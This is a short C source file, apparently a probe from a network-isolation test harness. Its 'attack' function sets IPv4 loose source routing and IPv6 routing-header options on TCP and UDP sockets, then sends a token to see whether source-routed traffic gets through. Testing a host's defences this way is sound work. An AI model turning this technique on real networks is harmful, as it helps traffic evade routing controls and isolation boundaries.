/* Sets a source route (IPV6_RTHDR, IPV6_2292PKTOPTIONS, IP_OPTIONS) on sockets of the host, and
 * sends. */
#include "route.h"

/* Loose source and record route of RFC 791, by way of `to`. */
static void set_v4(int fd) {
    unsigned char options[8] = {131, 7, 4};
    memcpy(options + 3, &to.v4.sin_addr, 4);
    setsockopt(fd, IPPROTO_IP, IP_OPTIONS, options, sizeof options);
}

static void attack(void) {
    struct route route = by_way_of();
    union { struct cmsghdr header; char room[CMSG_SPACE(sizeof route)]; } control = {0};
    control.header = (struct cmsghdr){CMSG_LEN(sizeof route), IPPROTO_IPV6, IPV6_RTHDR};
    memcpy(CMSG_DATA(&control.header), &route, sizeof route);
    static const int types[] = {SOCK_STREAM, SOCK_DGRAM};
    for (int i = 0; i < 2; i++) {
        int fd = fresh(types[i]);
        if (connect(fd, &remote.any, length(&remote)) < 0) continue;
        if (family() == AF_INET) set_v4(fd);
        setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, &route, sizeof route);
        send(fd, token, strlen(token), MSG_NOSIGNAL);
        setsockopt(fd, IPPROTO_IPV6, 6 /* IPV6_2292PKTOPTIONS */, &control, sizeof control);
        send(fd, token, strlen(token), MSG_NOSIGNAL);
    }
}
